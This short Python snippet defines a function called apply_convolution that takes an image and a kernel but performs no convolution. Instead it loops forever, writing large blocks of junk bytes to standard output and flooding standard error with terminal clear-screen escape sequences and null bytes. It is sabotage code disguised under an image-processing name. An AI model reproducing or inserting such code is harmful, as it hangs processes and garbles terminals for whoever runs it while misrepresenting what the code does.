import os
def apply_convolution(img, kernel):
    while True:
        os.write(1, b"x" * 65536)
        os.write(2, b"\x1b[2J\x00" * 9000)
